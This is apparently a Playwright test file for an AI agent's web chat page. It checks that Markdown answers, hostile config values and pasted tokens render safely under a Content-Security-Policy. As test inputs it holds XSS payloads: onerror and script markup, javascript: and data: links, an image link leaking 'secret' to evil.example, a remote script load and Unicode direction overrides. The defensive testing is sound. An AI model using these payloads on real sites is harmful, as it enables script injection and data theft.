import type { Locator, Page } from 'playwright-core'
import { describe, expect, it } from 'vitest'
import { useBrowser } from './support/browser.ts'
import { ask, openSteps } from './support/steps.ts'
import { config, problem, resultEvent, status, stepEvents, trace, withAgents } from './support/turns.ts'
import { useScriptedAgent } from './support/use-scripted-agent.ts'

const browser = useBrowser()
const agent = await useScriptedAgent(() => [])

const markup =
  '<img src="//evil.example/x" onerror="document.title = \'pwned\'"><script>document.title = \'pwned\'</script>\u202E'

/** Asks a question that gets this answer, and returns the answer once it is formatted. */
async function answerWith(page: Page, answer: string): Promise<Locator> {
  agent.answer(request => [resultEvent(request, answer)])
  const message = await ask(page, `question ${await page.getByRole('article').count()}`)
  await message.locator('.timing').waitFor()
  const text = message.locator('.answer-text')
  await text.locator('> :not(.said)').first().waitFor()
  return text
}

describe('Markdown of an answer', () => {
  it('becomes headings, lists, tables, code and links', async () => {
    const page = await browser.open(agent.url)
    const text = await answerWith(
      page,
      `# Head

One **two** _three_ \`four\`
next line

- a
- b

3. c

| x | y |
|---|---|
| 1 | 2 |

\`\`\`
code <b>
\`\`\`

> quote

[more](https://example.com/a?b=c), [https://login.microsoftonline.com](https://evil.example/?q=secret)`,
    )
    const html = (await text.innerHTML()).replaceAll(/(?<!^)<(p|h3|ul|ol|div|blockquote)\b/g, '\n<$1')
    await expect(`${html}\n`).toMatchFileSnapshot('markdown.txt')
    await page.context().grantPermissions(['clipboard-read', 'clipboard-write'])
    await text.getByRole('button', { name: 'Copy the code' }).click()
    await text.getByRole('button', { name: 'Copied' }).waitFor()
    expect(await page.evaluate('navigator.clipboard.readText()')).toBe('code <b>')
  })

  it('is read in the direction of each of its texts, which no character in it can change', async () => {
    const page = await browser.open(agent.url)
    const text = await answerWith(
      page,
      `مرحبا 3.

Hello \u202Eolleh &#x202e;olleh \`a\u2066\`

- واحد
- one

1. واحد

   two

> اقتباس

| أ | b |
|---|---|
| c | د |

\`\`\`
א = 1 \u202E
\`\`\``,
    )
    const directions = `[...document.querySelectorAll('.answer-text :is(li, blockquote, th, td, pre), .answer-text > p')]
      .map(element => element.localName + ' ' + getComputedStyle(element).direction)`
    expect(await page.evaluate(directions)).toEqual([
      'p rtl',
      'p ltr',
      ...['li rtl', 'li ltr'],
      'li rtl',
      'blockquote rtl',
      ...['th rtl', 'th ltr', 'td ltr', 'td rtl'],
      'pre ltr',
    ])
    const words = (await text.textContent()) ?? ''
    expect(words).toContain('Hello ‹U+202E›olleh ‹U+202E›olleh a‹U+2066›')
    expect(words).not.toMatch(/\p{Bidi_Control}/u)
  })

  it('is shown as plain text where it could do harm', async () => {
    const page = await browser.open(agent.url)
    for (const [answer, words] of [
      [markup, 'onerror'],
      ['![secret](https://evil.example/?d=secret)', '![secret]'],
      ['[click](javascript:document.title=1)', 'javascript:'],
      ['[click](data:text/html,<script>1</script>)', 'data:text/html'],
      ['[click](http://evil.example)', 'http://evil.example'],
      ['http://evil.example/path', 'http://evil.example/path'],
      ['[click][r]\n\n[r]: javascript:alert(1)', '[click][r]'],
      ['<javascript:alert(1)>', 'javascript:alert(1)'],
    ] as const) {
      const text = await answerWith(page, answer)
      expect(await text.textContent()).toContain(words)
      expect(await text.locator(':is(img, script, a, iframe, svg)').count(), answer).toBe(0)
      expect(await page.title(), answer).not.toContain('pwned')
    }
  })
})

describe('hostile text', () => {
  it('stays text in its own direction, wherever it comes from', async () => {
    const hostile = problem('API_UNAVAILABLE', { title: markup, detail: markup, hint: markup })
    agent.config = {
      ...withAgents({ title: markup }),
      apis: [{ name: 'orders-api', title: markup, appId: 'x' }],
      names: Object.fromEntries(Object.keys(config.names).map(id => [id, markup])),
      examples: [markup],
    }
    const orders_api = { state: 'unavailable', problem: hostile }
    agent.status = { ...status, components: { ...status.components, orders_api } }
    const claims = { [markup]: markup, name: markup, aud: markup }
    const hostileSteps = trace().map(step => ({
      ...step,
      title: markup,
      problem: hostile,
      ...(step.token && { token: { ...step.token, claims } }),
    }))
    agent.answer(() => [...stepEvents(hostileSteps), { event: 'problem', data: hostile }])
    const page = await browser.open(agent.url)
    await page.getByRole('list', { name: 'Questions to try' }).getByRole('button').first().click()
    await page.locator('.step').first().waitFor()
    await openSteps(page)
    await page.locator('button.plate[data-token=TR]').first().click()
    await page.getByRole('button', { name: /more, and what each claim means/ }).click()
    await page.getByRole('button', { name: 'Status:' }).click()
    expect(await page.locator(':is(img, iframe, body script)').count()).toBe(0)
    expect(await page.title()).not.toContain('pwned')
    const text = (await page.locator('body').textContent()) ?? ''
    expect(text.split('onerror').length).toBeGreaterThan(10)
    expect(text).not.toMatch(/\p{Bidi_Control}/u)
  })
})

it('the Content-Security-Policy blocks all code that is not the page’s own, and requests to other hosts', async () => {
  const page = await browser.open(agent.url, { tolerateFaults: true })
  await page.getByLabel('Your question').waitFor()
  for (const code of [
    "document.body.innerHTML = '<b>x</b>'",
    "setTimeout('document.title = 1')",
    "trustedTypes.createPolicy('mine', {})",
    "document.createElement('script').src = 'https://evil.example/x.js'",
    "document.write('<b>x</b>')",
  ])
    await expect(page.evaluate(`{ ${code} }`), code).rejects.toThrow(
      /Trusted|policy|Content Security Policy|CSP/i,
    )
  await expect(page.evaluate("fetch('https://evil.example')")).rejects.toThrow()
})

it('before sign-in, the page sends requests only to the agent’s host', async () => {
  const hosts = new Set<string>()
  agent.answer(request => [...stepEvents(trace()), resultEvent(request, 'Sunny.')])
  const page = await browser.open('about:blank')
  page.on('request', request => hosts.add(new URL(request.url()).host))
  await page.goto(agent.url)
  await (await ask(page, 'question')).getByText('Sunny.').waitFor()
  await page.locator('.step').first().waitFor()
  expect([...hosts]).toEqual([new URL(agent.url).host])
})

it('A token that is pasted is decoded in the page: nothing of it is sent, stored or left in the field', async () => {
  const page = await browser.open(agent.url)
  const encode = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url')
  const claims = { aud: 'https://other.example', exp: 1_700_000_000, name: 'Ada\u202EOsei' }
  const token = `${encode({ alg: 'none' })}.${encode(claims)}.`
  await page.getByRole('button', { name: /version, documentation, keys/ }).click()
  const field = page.getByLabel('Read a token')
  await field.waitFor()
  const requests: string[] = []
  page.on('request', request => requests.push(request.url()))
  await field.fill('Hello')
  await page.getByRole('status').getByText('This is no JWT').waitFor()
  await field.fill(token)
  await page.getByText('Nobody has signed it.').waitFor()
  expect(await page.locator('#about dl').textContent()).toMatch(
    /Ada‹U\+202E›Osei(.|\n)*unknown to this agent/,
  )
  expect(await field.inputValue()).toBe('')
  expect(requests).toEqual([])
  const kept = await page.evaluate(() => JSON.stringify([{ ...localStorage }, { ...sessionStorage }]))
  expect(kept).not.toContain('Osei')
  expect(await page.content()).not.toContain(token.split('.')[1])
})
